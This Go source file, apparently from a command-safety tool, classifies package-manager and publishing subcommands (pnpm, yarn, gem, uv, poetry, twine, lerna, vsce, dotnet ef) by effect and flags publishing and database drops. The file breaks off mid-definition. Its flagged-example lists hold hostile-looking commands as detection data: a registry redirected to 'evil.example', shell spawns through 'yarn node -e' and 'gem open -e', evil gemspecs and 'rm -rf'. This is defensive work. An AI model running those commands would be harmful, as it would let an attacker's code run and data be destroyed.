package programs

import (
	"maps"

	"github.com/wardenhq/warden/danger"
)

// Package managers and build tools beyond npm, pip, cargo, go and make
// (toolchains.go). Installing, building, testing and running scripts run
// the project's own code (RunsProject): package.json and composer.json
// scripts, a Gemfile, build.gradle, pom.xml, mix.exs and Package.swift are
// code, and installing a package runs its build scripts. Subcommands that
// run a command named on the command line (exec, dlx, run CMD, tool run)
// or open a REPL or an editor are Exec; those that change global state
// (global installs, configuration, PATH set-up) are Config; those that only
// ask the registry are Network. Removing what was installed for the user
// (gem uninstall, pipx uninstall, uv tool uninstall) is Config too: a
// lasting change outside the project, not a deletion of its files. Only listings of what is installed, help
// and version are read-only, and only where the tool evaluates no project
// code to produce them. An unknown subcommand is, for the tools that run a
// script of that name (pnpm build, yarn lint, composer test, mix deploy),
// the project's code.

var _ = family("packages", func(add func(...*Spec)) {
	does := func(e Effect, opts string) *Spec {
		return &Spec{Effect: e, Permute: true, Loose: true, Operands: "-*", Options: "-h:h --help:h " + opts}
	}
	runsCmd := func(opts string) *Spec {
		// The first operand is the command; options stop there.
		return &Spec{Effect: Exec, Command: true, Options: "-h:h --help:h " + opts}
	}
	lists := func(opts string) *Spec {
		return &Spec{Permute: true, Operands: "-*", Options: "-h:h --help:h " + opts}
	}
	// raises makes s a subcommand whose call publishes or changes a
	// published package, unless the option unless names is on.
	raises := func(s *Spec, why, unless string, flagged, passes []string) *Spec {
		s.Raises = []Raise{{Kind: danger.PublishDeploy, Why: why, Unless: unless, Flagged: flagged, Passes: passes}}
		return s
	}

	pnpmList := lists("--depth= --json --long --parseable -P --prod -D --dev --no-optional -g --global -r --recursive --filter= -F= --only-projects --exclude-peers --lockfile-only -w --workspace-root")
	// pnpm config set KEY VALUE (pnpm hands the file to npm's reader):
	// the setting decides the danger, as npm's.
	pnpmConfig := &Spec{Effect: Config, Permute: true, Loose: true, Operands: "-*", Options: "-h:h --help:h -g --global --location= --json", OtherSubcommand: Config,
		Subcommands: subs("set", packageConfigSet("pnpm", "config set"), "get", lists("-g --global --location= --json"), "list", lists("-g --global --location= --json"))}
	pnpm := subs(
		"install", does(RunsProject, ""), "i", does(RunsProject, ""), "add", does(RunsProject, ""), "update", does(RunsProject, ""), "up", does(RunsProject, ""),
		"remove", does(RunsProject, ""), "rm", does(RunsProject, ""), "uninstall", does(RunsProject, ""), "un", does(RunsProject, ""), "link", does(RunsProject, ""),
		"ln", does(RunsProject, ""), "unlink", does(RunsProject, ""), "import", does(RunsProject, ""), "rebuild", does(RunsProject, ""), "rb", does(RunsProject, ""),
		"prune", does(RunsProject, ""), "fetch", does(RunsProject, ""), "install-test", does(RunsProject, ""), "it", does(RunsProject, ""), "dedupe", does(RunsProject, ""),
		"patch", does(RunsProject, ""), "patch-commit", does(RunsProject, ""), "pack", does(RunsProject, ""), "deploy", does(RunsProject, ""),
		"run", does(RunsProject, ""), "run-script", does(RunsProject, ""), "test", does(RunsProject, ""), "t", does(RunsProject, ""), "start", does(RunsProject, ""),
		"restart", does(RunsProject, ""), "create", does(Exec, ""), "init", does(Write, ""),
		"exec", runsCmd("-r --recursive --parallel -c --shell-mode --filter= -F="), "dlx", runsCmd("--package= -c --shell-mode"),
		"ls", pnpmList, "list", pnpmList, "ll", pnpmList, "la", pnpmList, "why", pnpmList, "root", lists("-g --global"), "bin", lists("-g --global"), "help", lists(""),
		"outdated", does(Network, ""), "audit", does(Network, ""), "view", does(Network, ""), "info", does(Network, ""), "show", does(Network, ""), "licenses", does(Network, ""),
		"login", does(Config, ""), "logout", does(Config, ""), "config", pnpmConfig, "set", does(Config, ""), "setup", does(Config, ""),
		"env", does(Config, ""), "store", does(Delete, ""), "cache", does(Delete, ""),
	)
	// pnpm 12.23.0 (clap; --help and an unreachable registry tried):
	// publish --dry-run, =true and the global --dry-run are a dry run;
	// --dry-run=false, --no-dry-run and the last of the two given are not;
	// --dry is refused; "--dry-run false" publishes the directory false,
	// taken here for no dry run. The registry commands are npm's
	// (pnpm 9 and 10 hand them to npm).
	maps.Copy(pnpm, npmRegistry("pnpm", false))
	// yarn 4.18.1 (clipanion, --help and runs tried): yarn npm publish
	// takes -n|--dry-run, and --no-dry-run; --dry-run=false and --dry
	// are refused. Yarn 1's publish has no dry run.
	yarnNpmPublish := &Spec{Effect: Network, Permute: true, Loose: true, Operands: "-*",
		Options: "-h|--help:h --access= --tag= --tolerate-republish --otp= --provenance -n|--dry-run --no-dry-run --json --staged",
		Raises: []Raise{{Kind: danger.PublishDeploy, Why: "yarn publish releases the package publicly", Unless: "--dry-run",
			Flagged: []string{"yarn npm publish", "yarn npm publish --access public", "yarn npm publish -n --no-dry-run", "/usr/local/bin/yarn npm publish", "command yarn npm publish"},
			Passes:  []string{"yarn npm publish -n", "yarn npm publish --dry-run", "yarn npm publish --tag next --dry-run", "yarn npm publish --json -n", "yarn npm info x"}}}}
	yarnNpm := &Spec{Options: "-h|--help:h", OtherSubcommand: Network, Subcommands: subs("publish", yarnNpmPublish)}
	yarnPublish := does(Network, "")
	yarnPublish.Raises = []Raise{{Kind: danger.PublishDeploy, Why: "yarn publish releases the package publicly",
		Flagged: []string{"yarn publish", "yarn publish --new-version 1.0.1", "yarn publish --dry-run"}, Passes: []string{"yarn pack", "yarn publish --help"}}}
	// gem 3.x (Ruby's OptionParser: unique prefixes of long options, -x
	// bundled): push, yank and owner change what rubygems.org serves and
	// who may; none has a dry run. gem owner GEM alone lists the owners,
	// but asks the registry with the caller's key all the same.
	gemOpts := "-h|--help:h -k|--key= --otp= --host=n -p|--http-proxy= -V|--verbose -q|--quiet"
	gemPush := raises(&Spec{Effect: Network, Permute: true, Loose: true, Abbrev: true, Operands: "-*", Options: gemOpts + " --attestation="}, "gem push changes a published gem", "",
		[]string{"gem push x-1.0.0.gem", "gem push --host https://rubygems.pkg.github.com/o x.gem", "/usr/bin/gem push x.gem", "command gem push x.gem"}, []string{"gem build x.gemspec", "gem push --help"})
	gemYank := raises(&Spec{Effect: Network, Permute: true, Loose: true, Abbrev: true, Operands: "-*", Options: gemOpts + " -v|--version= --platform="}, "gem yank changes a published gem", "",
		[]string{"gem yank x -v 1.0.0", "gem yank x --version=1.0.0"}, []string{"gem yank --help"})
	gemOwner := raises(&Spec{Effect: Network, Permute: true, Loose: true, Abbrev: true, Operands: "-*", Options: gemOpts + " -a|--add= -r|--remove="}, "gem owner changes a published gem", "",
		[]string{"gem owner x --add bob@example.com", "gem owner x -r bob@example.com", "gem owner x"}, []string{"gem owner --help"})
	// uv (clap; uv-cli's PublishArgs has dry_run, docs.rs uv-cli latest):
	// publish --dry-run checks and builds the upload without sending it;
	// clap takes no prefixes and no value for the flag.
	uvPublish := raises(does(Network, "--dry-run --index= --publish-url=n --check-url=n -u|--username= -p|--password= -t|--token= --trusted-publishing="),
		"uv publish publishes the package", "--dry-run",
		[]string{"uv publish", "uv publish dist/*", "uv publish --index testpypi", "uv -q publish --token t", "env uv publish"},
		[]string{"uv publish --dry-run", "uv publish dist/* --dry-run", "uv build"})
	// poetry 1.3.2 (cleo; Debian's python3-poetry, tried): publish
	// --dry-run, anywhere after publish, takes no value (--dry-run=false
	// is refused) and no prefix (--dry is refused); -n is
	// --no-interaction, a real publish.
	poetryPublish := raises(does(Network, "--dry-run --build --skip-existing -r|--repository= -u|--username= -p|--password= --cert= --client-cert="),
		"poetry publish publishes the package", "--dry-run",
		[]string{"poetry publish", "poetry publish -n", "poetry -n publish --build", "poetry publish --build -r testpypi", "/usr/bin/poetry publish", "command poetry publish"},
		[]string{"poetry publish --dry-run", "poetry -n publish --dry-run", "poetry publish --build --dry-run -r testpypi", "poetry build"})
	// dotnet nuget (dotnet 8, System.CommandLine: no prefixes): push
	// and delete change what a feed serves; neither has a dry run.
	dotnetNuget := &Spec{Options: "-h|--help:h", OtherSubcommand: Unknown,
		Subcommands: subs("push", raises(does(Network, "-s|--source=n -k|--api-key="), "pushes a NuGet package", "",
			[]string{"dotnet nuget push x.1.0.0.nupkg -s https://api.nuget.org/v3/index.json -k k", "dotnet nuget push bin/*.nupkg --api-key=k"}, []string{"dotnet pack", "dotnet nuget push --help"}),
			"delete", raises(does(Network, "-s|--source=n -k|--api-key= --non-interactive"), "dotnet nuget delete unlists a published package", "",
				[]string{"dotnet nuget delete x 1.0.0 --non-interactive"}, []string{"dotnet nuget delete --help"}),
			"locals", does(Unknown, ""), "add", does(Config, ""), "remove", does(Config, ""), "update", does(Config, ""), "enable", does(Config, ""), "disable", does(Config, ""),
			"list", does(Network, ""), "verify", does(Unknown, ""), "trust", does(Config, ""), "sign", does(Write, ""), "why", does(RunsProject, ""))}
	// swift package-registry publish (SwiftPM 5.9 on, swift-argument-parser:
	// no prefixes): --dry-run prepares and signs the archive without
	// uploading it; one early version declared it an option taking true or
	// false (--dry-run false publishes).
	swiftRegistry := &Spec{Options: "-h|--help:h", OtherSubcommand: Config,
		Subcommands: subs("publish", raises(does(Network, "--dry-run?b --url=n --metadata-path=r --signing-identity= --private-key-path= --cert-chain-paths= --scratch-directory= --allow-insecure-http"),
			"publishes a Swift package", "--dry-run",
			[]string{"swift package-registry publish mona.LinkedList 1.0.0", "swift package-registry publish mona.LinkedList 1.0.0 --url https://r.example", "swift package-registry publish --dry-run false mona.LinkedList 1.0.0"},
			[]string{"swift package-registry publish mona.LinkedList 1.0.0 --dry-run", "swift package-registry publish --dry-run true mona.LinkedList 1.0.0", "swift build"}))}
	// yarn config set KEY VALUE (yarn 1 and berry): the setting decides
	// the danger, as npm's.
	yarnConfig := &Spec{Effect: Config, Permute: true, Loose: true, Operands: "-*", Options: "-h:h --help:h", OtherSubcommand: Config,
		Subcommands: subs("set", packageConfigSet("yarn", "config set"), "get", lists("--json --why"), "list", lists("--json -v --verbose"))}
	yarnList := lists("--depth= --pattern= --json --recursive -R --all -A --production --dev")
	yarn := subs(
		"install", does(RunsProject, ""), "add", does(RunsProject, ""), "remove", does(RunsProject, ""), "upgrade", does(RunsProject, ""), "up", does(RunsProject, ""),
		"upgrade-interactive", does(RunsProject, ""), "import", does(RunsProject, ""), "link", does(RunsProject, ""), "unlink", does(RunsProject, ""), "dedupe", does(RunsProject, ""),
		"rebuild", does(RunsProject, ""), "autoclean", does(RunsProject, ""), "pack", does(RunsProject, ""), "check", does(RunsProject, ""),
		"run", does(RunsProject, ""), "test", does(RunsProject, ""), "start", does(RunsProject, ""), "workspace", does(RunsProject, ""), "workspaces", does(RunsProject, ""),
		"create", does(Exec, ""), "init", does(Write, ""), "node", runsCmd(""), "exec", runsCmd(""), "dlx", runsCmd("-p= --package= -q --quiet"),
		"list", yarnList, "ls", yarnList, "why", yarnList, "bin", lists(""), "versions", lists(""), "help", lists(""),
		"info", does(Network, ""), "npm", yarnNpm, "outdated", does(Network, ""), "audit", does(Network, ""), "licenses", does(Network, ""),
		"publish", yarnPublish, "version", does(Write, ""), "tag", does(Network, ""), "team", does(Network, ""), "owner", does(Network, ""),
		"login", does(Config, ""), "logout", does(Config, ""), "config", yarnConfig, "global", does(Config, ""), "policies", does(Config, ""), "set", does(Config, ""),
		"plugin", does(Config, ""), "cache", does(Delete, ""),
	)
	// twine 4.0.2 has no dry run: upload and register send to the index.
	twineSends := func(why string, flagged, passes []string) *Spec {
		return &Spec{Effect: Network, Abbrev: true, Permute: true, Operands: "r*", Options: "-h|--help:h -r|--repository= --repository-url=n -s|--sign --sign-with=x " +
			"-i|--identity= -u|--username= -p|--password= --non-interactive -c|--comment= --config-file=r --skip-existing --cert=r --client-cert=r --verbose --disable-progress-bar",
			Raises: []Raise{{Kind: danger.PublishDeploy, Why: why, Flagged: flagged, Passes: passes}}}
	}
	twineUpload := twineSends("twine upload publishes the package",
		[]string{"twine upload dist/*", "twine upload -r testpypi dist/x.whl", "twine upload --skip-exi dist/*", "/usr/bin/twine upload dist/*", "env twine upload dist/*"},
		[]string{"twine check dist/x.whl", "twine upload --help"})
	twineRegister := twineSends("twine register registers the package on the index", []string{"twine register dist/x.whl"}, []string{"twine register --help"})
	httpiePlugins := &Spec{Abbrev: true, Options: "-h|--help:h", OtherSubcommand: Unknown, Subcommands: subs("list", &Spec{Abbrev: true, Options: "-h|--help:h"},
		"install", &Spec{Effect: Config, Loose: true, Operands: "-*", Options: "-h|--help:h"}, "upgrade", &Spec{Effect: Config, Loose: true, Operands: "-*", Options: "-h|--help:h"},
		"uninstall", &Spec{Effect: Config, Loose: true, Operands: "-*", Options: "-h|--help:h"})}
	const lernaGlobal = "-h|--help:h --loglevel= --concurrency= --reject-cycles --no-progress --no-sort --max-buffer= --scope= --ignore= --no-private --since? " +
		"--exclude-dependents --include-dependents --include-dependencies --include-merged-tags"
	lernaList := &Spec{Permute: true, Options: lernaGlobal + " --json --ndjson -a|--all -l|--long -p|--parseable --toposort --graph"}
	extDoes := func(e Effect) *Spec {
		return &Spec{Effect: e, Permute: true, Loose: true, Operands: "-*", Options: "-h|--help:h"}
	}
	dotnetEF := &Spec{Effect: RunsProject, Permute: true, Loose: true, Operands: "-*", Options: "-h:h --help:h -v|--verbose --no-color --prefix-output", OtherSubcommand: RunsProject,
		Subcommands: subs("database", &Spec{Options: "-h:h --help:h -v|--verbose --no-color --prefix-output", OtherSubcommand: RunsProject,
			Subcommands: subs("drop", &Spec{Effect: Network, Permute: true, Loose: true, Operands: "-*",
				Options: "-h:h --help:h -f|--force --dry-run -c|--context= -p|--project= -s|--startup-project= --framework= --configuration= --runtime= --msbuildprojectextensionspath= --no-build -v|--verbose --no-color --prefix-output",
				Raises: []Raise{{Kind: danger.DBDestructive, Unless: "--dry-run", Why: "{prog} ef database drop drops the database",
					Flagged: []string{"dotnet ef database drop", "dotnet ef database drop --force", "dotnet ef database drop -f -p src/App", "/usr/bin/dotnet ef database drop -f", "dotnet ef -v database drop --force"},
					Passes:  []string{"dotnet ef database update", "dotnet ef database drop --dry-run", "dotnet ef migrations add Drop", "dotnet ef database drop --help"}}}})})}
	// mix ecto.drop and ecto.reset (ecto_sql's tasks) drop the database,
	// also as a task of mix do (TASK + TASK, or TASK, TASK before 1.14).
	ectoDrops := func(task string) *Spec {
		return &Spec{Effect: RunsProject, Permute: true, Loose: true, Operands: "-*", Options: "-h:h --help:h -r|--repo= --force --no-compile --quiet",
			Raises: []Raise{{Kind: danger.DBDestructive, Why: "{prog} " + task + " drops the database",
				Flagged: []string{"mix " + task, "mix " + task + " -r MyApp.Repo", "MIX_ENV=test mix " + task, "/usr/local/bin/mix " + task + " --force"},
				Passes:  []string{"mix ecto.migrate", "mix ecto.create", "mix test test/" + task + "_test.exs"}}}}
	}
	// publishes is a subcommand whose call publishes, with no dry run.
	publishes := func(why string, flagged, passes []string) *Spec {
		s := extDoes(Network)
		s.Raises = []Raise{{Kind: danger.PublishDeploy, Why: why, Flagged: flagged, Passes: passes}}
		return s
	}
	add(
		// lerna 9.0.7 (yargs, --help observed): options anywhere, --x=v or
		// apart. publish has no dry run (lerna 10.1.1's source reads
		// dry-run only from the npm configuration it hands to npm). list/changed/diff/info read the workspace and git; run,
		// watch and exec run the project's scripts or a command in each
		// package; version commits, tags and pushes; publish publishes.
		&Spec{Names: n("lerna"), Lasting: Lasting{Does: Publishes, Subs: "publish", Examples: []string{"lerna publish => publishes a package or release"}},
			Grant:   Grant{Depth: 1, ExactSubs: "publish exec", Offers: []string{"lerna run build => Bash(lerna run:*)", "lerna publish => Bash(lerna publish)"}},
			Options: "-h|--help:h -v|--version:h --loglevel= --concurrency= --reject-cycles --no-progress --no-sort --max-buffer=", OtherSubcommand: Unknown,
			Subcommands: subs("list", lernaList, "ls", lernaList, "la", lernaList, "ll", lernaList, "changed", lernaList, "diff", &Spec{Permute: true, Operands: "-?", Options: lernaGlobal},
				"info", &Spec{Permute: true, Options: lernaGlobal},
				"run", extDoes(RunsProject), "watch", extDoes(Exec), "exec", &Spec{Effect: Exec, Command: true, Options: lernaGlobal + " --stream --parallel --no-bail --no-prefix --profile --scope= --ignore= --since="},
				"version", extDoes(Network), "publish", publishes("lerna publish releases packages",
					[]string{"lerna publish", "lerna publish from-package --yes", "lerna publish --dry-run", "lerna --loglevel silly publish", "command lerna publish"}, []string{"lerna version patch --no-push", "lerna list"}),
				"init", extDoes(Write), "create", extDoes(Write), "import", extDoes(Write), "repair", extDoes(Write),
				"add-caching", extDoes(Write), "clean", extDoes(Delete)),
			ReadOnly: []string{"lerna --version", "lerna list", "lerna ls --json --all", "lerna la", "lerna changed", "lerna diff", "lerna info"},
			Flagged:  []string{"lerna publish", "lerna publish from-package --yes", "lerna version patch", "lerna run build", "lerna exec -- rm -rf dist", "lerna exec rm -rf dist", "lerna clean -y"}},
		// vsce 3.9.2 and ovsx 1.1.1 (commander, --help observed): options
		// anywhere, no prefixes. publish and unpublish have no dry run
		// (vsce 4.1.0's, ovsx 1.4.0's --help). Packaging and publishing run the
		// extension's vscode:prepublish script (the project's code).
		&Spec{Names: n("vsce"), Lasting: Lasting{Does: Publishes, Subs: "publish unpublish", Examples: []string{"vsce publish => publishes a package or release"}},
			Grant:   Grant{Depth: 1, ExactSubs: "publish unpublish", Offers: []string{"vsce package => Bash(vsce package:*)", "vsce publish => Bash(vsce publish)"}},
			Options: "-V|--version:h -h|--help:h", OtherSubcommand: Unknown,
			Subcommands: subs("ls", extDoes(RunsProject), "package", extDoes(RunsProject), "pack", extDoes(RunsProject),
				"publish", publishes("vsce publishes an extension", []string{"vsce publish", "vsce publish -p TOKEN", "vsce publish minor", "vsce publish --dry-run", "/usr/local/bin/vsce publish"}, []string{"vsce package", "vsce ls"}),
				"unpublish", publishes("vsce unpublish removes a published extension", []string{"vsce unpublish x.y", "vsce unpublish -f x.y"}, []string{"vsce ls-publishers"}),
				"generate-manifest", extDoes(Write), "verify-signature", extDoes(Unknown), "ls-publishers", &Spec{Permute: true, Options: "-h|--help:h"},
				"delete-publisher", extDoes(Network), "login", extDoes(Config), "logout", extDoes(Config), "verify-pat", extDoes(Network), "show", extDoes(Network),
				"search", extDoes(Network), "help", &Spec{Permute: true, Operands: "-*", Options: "-h|--help:h"}),
			ReadOnly: []string{"vsce --version", "vsce ls-publishers", "vsce help publish"},
			Flagged:  []string{"vsce publish", "vsce package", "vsce publish -p TOKEN", "vsce unpublish x.y", "vsce login me", "vsce frobnicate"}},
		&Spec{Names: n("ovsx"), Lasting: Lasting{Does: Publishes, Subs: "publish", Examples: []string{"ovsx publish x.vsix => publishes a package or release"}},
			Grant:   Grant{Depth: 1, ExactSubs: "publish", Offers: []string{"ovsx get x.y => Bash(ovsx get:*)", "ovsx publish => Bash(ovsx publish)"}},
			Options: "-V|--version:h -h|--help:h -r|--registryUrl=n -p|--pat= --debug", OtherSubcommand: Unknown,
			Subcommands: subs("publish", publishes("ovsx publishes an extension", []string{"ovsx publish x.vsix", "ovsx -p TOKEN publish", "ovsx publish -p TOKEN x.vsix"}, []string{"ovsx get x.y", "ovsx help publish"}),
				"create-namespace", extDoes(Network), "verify-pat", extDoes(Network), "get", extDoes(Network),
				"login", extDoes(Config), "logout", extDoes(Config), "help", &Spec{Permute: true, Operands: "-*", Options: "-h|--help:h"}),
			ReadOnly: []string{"ovsx --version", "ovsx help publish"},
			Flagged:  []string{"ovsx publish x.vsix", "ovsx -p TOKEN publish", "ovsx get x.y -o x.vsix", "ovsx create-namespace x"}},
		// changeset 2.31.1 (@changesets/cli, --help observed; 3.0.3's
		// source: publish takes --otp, --tag, --git-tag, no dry run): with no
		// command it adds a changeset; version rewrites package.json and
		// the changelogs; publish runs npm publish for each package.
		&Spec{Names: n("changeset"), Lasting: Lasting{Does: Publishes, Subs: "publish", Examples: []string{"changeset publish => publishes a package or release"}},
			Grant:  Grant{Depth: 1, ExactSubs: "publish", Offers: []string{"changeset status => Bash(changeset status:*)", "changeset publish => Bash(changeset publish)"}},
			Effect: Write, Options: "-h|--help:h -v|--version:h", OtherSubcommand: Unknown,
			Subcommands: subs("status", &Spec{Permute: true, Options: "-h|--help:h --since= --verbose --output=w"},
				"init", extDoes(Write), "add", extDoes(Write), "version", extDoes(Write), "pre", extDoes(Write), "tag", extDoes(Write),
				"publish", publishes("changeset publish releases packages", []string{"changeset publish", "changeset publish --tag next", "changeset publish --otp 123456", "changeset publish --dry-run"}, []string{"changeset version", "changeset status"})),
			ReadOnly: []string{"changeset status", "changeset status --verbose --since=main", "changeset --version"},
			Flagged:  []string{"changeset", "changeset add", "changeset version", "changeset publish", "changeset publish --tag next", "changeset status --output=s.json"}},
		// twine 4.0.2 (argparse, observed: --skip-exi is taken): upload
		// and register talk to the index; --sign-with names the program
		// that signs. check only reads the distributions.
		&Spec{Names: n("twine"), Lasting: Lasting{Does: Publishes, Subs: "upload", Examples: []string{"twine upload dist/x.whl => publishes a package or release"}},
			Grant:  Grant{Depth: 1, ExactSubs: "upload", Offers: []string{"twine check dist/x.whl => Bash(twine check:*)", "twine upload dist/x.whl => Bash(twine upload dist/x.whl)"}},
			Abbrev: true, Options: "-h|--help:h -v|--version:h --no-color",
			Subcommands: subs("check", &Spec{Abbrev: true, Permute: true, Operands: "r*", Options: "-h|--help:h --strict"},
				"upload", twineUpload, "register", twineRegister),
			ReadOnly: []string{"twine check dist/x.whl", "twine --version", "twine check --strict dist/*"},
			Flagged:  []string{"twine upload dist/*", "twine upload -r testpypi dist/x.whl", "twine upload --sign-with /tmp/x dist/x.whl", "twine register dist/x.whl"}},
		// flit 3.8.0 (argparse, tried: --dry is refused, publish has no
		// dry run): build imports the module for its version
		// and docstring (the project's code); publish builds and uploads.
		&Spec{Names: n("flit"), Lasting: Lasting{Does: Publishes, Subs: "publish", Examples: []string{"flit publish => publishes a package or release"}},
			Grant:  Grant{Depth: 1, ExactSubs: "publish", Offers: []string{"flit build => Bash(flit build:*)", "flit publish => Bash(flit publish)"}},
			Abbrev: true, Options: "-h|--help:h -V|--version:h -f|--ini-file=r", OtherSubcommand: Unknown,
			Subcommands: subs("build", &Spec{Effect: RunsProject, Abbrev: true, Loose: true, Operands: "-*", Options: "-h|--help:h --format= --setup-py --no-setup-py --use-vcs --no-use-vcs"},
				"publish", &Spec{Effect: Network, Abbrev: true, Loose: true, Operands: "-*", Options: "-h|--help:h --format= --setup-py --no-setup-py --pypirc=r --repository= --use-vcs --no-use-vcs",
					Raises: []Raise{{Kind: danger.PublishDeploy, Why: "flit publish publishes the package",
						Flagged: []string{"flit publish", "flit publish --repository testpypi", "flit publish --repo testpypi", "flit -f x.ini publish"}, Passes: []string{"flit build", "flit publish --help"}}}},
				"install", &Spec{Effect: RunsProject, Abbrev: true, Loose: true, Operands: "-*", Options: "-h|--help:h -s|--symlink --pth-file --user --env --python= --deps= --only-deps --extras="},
				"init", &Spec{Effect: Write, Operands: "-*", Options: "-h|--help:h"}),
			ReadOnly: []string{"flit --version"},
			Flagged:  []string{"flit publish", "flit build", "flit install -s", "flit publish --repository testpypi", "flit -f /tmp/x.ini build"}},
		// httpie 3.2.1 (argparse): the manager of HTTPie itself; http and
		// https send the requests.
		&Spec{Names: n("httpie"), Code: Code{Fetches: true}, Grant: Grant{Exact: true, Offers: []string{"httpie plugins list => Bash(httpie plugins list)"}}, Abbrev: true,
			Options: "-h|--help:h --version:h --debug --traceback",
			Subcommands: subs("plugins", httpiePlugins, "cli", &Spec{Abbrev: true, Options: "-h|--help:h", OtherSubcommand: Unknown,
				Subcommands: subs("plugins", httpiePlugins, "export-args", &Spec{Abbrev: true, Options: "-h|--help:h -f|--format="}, "check-updates", &Spec{Effect: Network, Options: "-h|--help:h"},
					"sessions", &Spec{Effect: Write, Loose: true, Operands: "-*", Options: "-h|--help:h"})}),
			ReadOnly: []string{"httpie --version", "httpie plugins list", "httpie cli export-args", "httpie cli plugins list"},
			Flagged:  []string{"httpie plugins install httpie-evil", "httpie cli plugins uninstall x", "httpie cli check-updates", "httpie cli sessions upgrade-all"}},
		// dpkg (1.21) matches its long options whole: -i|--install unpacks
		// and configures a package, running its maintainer scripts as
		// root. The entry declares what the program-flags check reads;
		// every call stays unknown.
		&Spec{Names: n("dpkg"), Effect: Unknown, Loose: true, Permute: true, Operands: "-*", Options: "-i|--install -R|--recursive -l|--list -L|--listfiles -s|--status -S|--search",
			Flagged: []string{"dpkg -i pkg.deb", "dpkg --install pkg.deb", "dpkg -Ri ./debs"}},
		&Spec{Names: n("pnpm"), Lasting: Lasting{Does: Publishes, Subs: "publish unpublish", Examples: []string{"pnpm publish => publishes a package or release"}}, Grant: Grant{Depth: 1, Deeper: "dlx exec run", ExactSubs: "dlx exec", Offers: []string{"pnpm build x => Bash(pnpm build:*)", "pnpm dlx dev --x => Bash(pnpm dlx dev --x)", "pnpm dlx x => Bash(pnpm dlx x)"}}, Effect: RunsProject, OtherSubcommand: RunsProject, Subcommands: pnpm,
			Options: "-v:h --version:h -h:h --help:h -C= --dir= -w --workspace-root -F= --filter= -r --recursive --silent -s --reporter= --color --no-color --aggregate-output " +
				"--stream --parallel --workspace-concurrency= --loglevel= --use-stderr --ignore-workspace --include-workspace-root --fail-if-no-match " + pnpmDryRun,
			ReadOnly: []string{"pnpm --version", "pnpm ls --depth 0", "pnpm why react", "pnpm -r list --json"},
			Flagged: []string{"pnpm install", "pnpm build", "pnpm exec sh -c id", "pnpm dlx create-vite", "pnpm config set registry https://evil.example", "pnpm outdated",
				"pnpm --dir /tmp/evil run x", "pnpm publish"}},
		&Spec{Names: n("yarn", "yarnpkg"), Lasting: Lasting{Does: Publishes, Subs: "publish unpublish", Examples: []string{"yarn unpublish x => publishes a package or release"}}, Grant: Grant{Depth: 1, Deeper: "dlx run workspace", ExactSubs: "dlx", Offers: []string{"yarn build x => Bash(yarn build:*)", "yarn dlx dev --x => Bash(yarn dlx dev --x)", "yarn dlx x => Bash(yarn dlx x)"}}, Effect: RunsProject, OtherSubcommand: RunsProject, Subcommands: yarn,
			Options: "-v:h --version:h -h:h --help:h --cwd= --silent -s --verbose --offline --prefer-offline --frozen-lockfile --immutable --json --no-progress --network-timeout= " +
				"--mutex= --registry=n --ignore-scripts --non-interactive --no-default-rc --use-yarnrc=u --cache-folder= --modules-folder= --production --prod",
			ReadOnly: []string{"yarn --version", "yarn list --depth=0", "yarn why lodash", "yarn help"},
			Flagged: []string{"yarn", "yarn install", "yarn exec /bin/sh", "yarn --cwd . xxx", "yarn lint", "yarn dlx cowsay", "yarn node -e 'require(\"child_process\").execSync(\"id\")'",
				"yarn global add evil", "yarn config set registry https://evil.example", "yarn --use-yarnrc /tmp/yarnrc install"}},
		&Spec{Names: n("gem"), Lasting: Lasting{Does: Publishes, Subs: "push", Examples: []string{"gem push x.gem => publishes a package or release"}}, Grant: Grant{Depth: 1, ExactSubs: "install", Offers: []string{"gem build x => Bash(gem build:*)", "gem install x => Bash(gem install x)"}}, OtherSubcommand: Unknown,
			Options: "-v:h --version:h -h:h --help:h -C=",
			Subcommands: subs(
				// -g/--file name a gem dependencies file: Ruby code.
				"install", does(RunsProject, "-g=l --file=l"), "i", does(RunsProject, "-g=l --file=l"), "update", does(RunsProject, ""), "pristine", does(RunsProject, ""),
				// A gemspec is Ruby, loaded from wherever the operand points.
				"build", &Spec{Effect: RunsProject, Permute: true, Loose: true, Operands: "l? -*", Options: "-h:h --help:h -C="}, "rdoc", does(RunsProject, ""), "cert", does(Config, ""), "sources", &Spec{Effect: Config, Permute: true, Loose: true, Abbrev: true, Operands: "-*", Options: "-h:h --help:h -a|--add= -r|--remove= -l|--list -c|--clear-all -u|--update -f|--force --no-force"}, "signin", does(Config, ""), "signout", does(Config, ""),
				"uninstall", does(Config, ""), "cleanup", does(Config, ""), "exec", runsCmd(""), "open", does(Exec, "-e=x --editor=x"), "server", does(Network, ""),
				"search", does(Network, ""), "outdated", does(Network, ""), "fetch", does(Network, ""), "push", gemPush, "yank", gemYank, "owner", gemOwner,
				"list", lists("-d --details -l --local -r:n --remote:n -b:n --both:n -a --all -e --exact -i --installed -v= --version= --prerelease --no-prerelease"),
				"query", lists("-d --details -l --local -n= --name-matches= -i --installed"), "contents", lists("-l --lib-only -a --all -s= --spec-dir= --prefix --no-prefix"),
				"environment", lists(""), "env", lists(""), "which", lists("-a --all -g --gems-first"), "info", lists("-i --installed -v= --version="), "help", lists(""),
				"specification", lists("-v= --version= --all --ruby --yaml --marshal -l --local"), "spec", lists("-v= --version= --all --ruby --yaml --marshal -l --local"),
				"dependency", lists("-v= --version= -R --reverse-dependencies -p --pipe -l --local")),
			ReadOnly: []string{"gem --version", "gem list", "gem env", "gem which rake", "gem contents rake"},
			Flagged:  []string{"gem open -e '/bin/sh -s' debug", "gem open rake", "gem build /tmp/evil.gemspec", "gem install --file /tmp/evil.rb", "gem install rails", "gem exec evil", "gem frobnicate"}},
		&Spec{Names: n("bundle", "bundler"), Grant: Grant{Depth: 1, Offers: []string{"bundle build x => Bash(bundle build:*)"}}, Effect: RunsProject, OtherSubcommand: Unknown,
			// Every command evaluates the Gemfile, which is Ruby.
			Options: "-v:h --version:h -h:h --help:h -V --verbose --no-color -r= --retry=",
			Subcommands: subs("exec", runsCmd("--keep-file-descriptors --gemfile="), "console", does(Exec, ""), "open", does(Exec, ""), "help", does(Unknown, ""),
				"install", does(RunsProject, ""), "update", does(RunsProject, ""), "add", does(RunsProject, ""), "remove", does(RunsProject, ""), "lock", does(RunsProject, ""),
				"cache", does(RunsProject, ""), "package", does(RunsProject, ""), "binstubs", does(RunsProject, ""), "check", does(RunsProject, ""), "list", does(RunsProject, ""),
				"show", does(RunsProject, ""), "info", does(RunsProject, ""), "outdated", does(RunsProject, ""), "pristine", does(RunsProject, ""), "doctor", does(RunsProject, ""),
				"licenses", does(RunsProject, ""), "platform", does(RunsProject, ""), "viz", does(RunsProject, ""), "clean", does(Config, ""), "config", does(Config, ""),
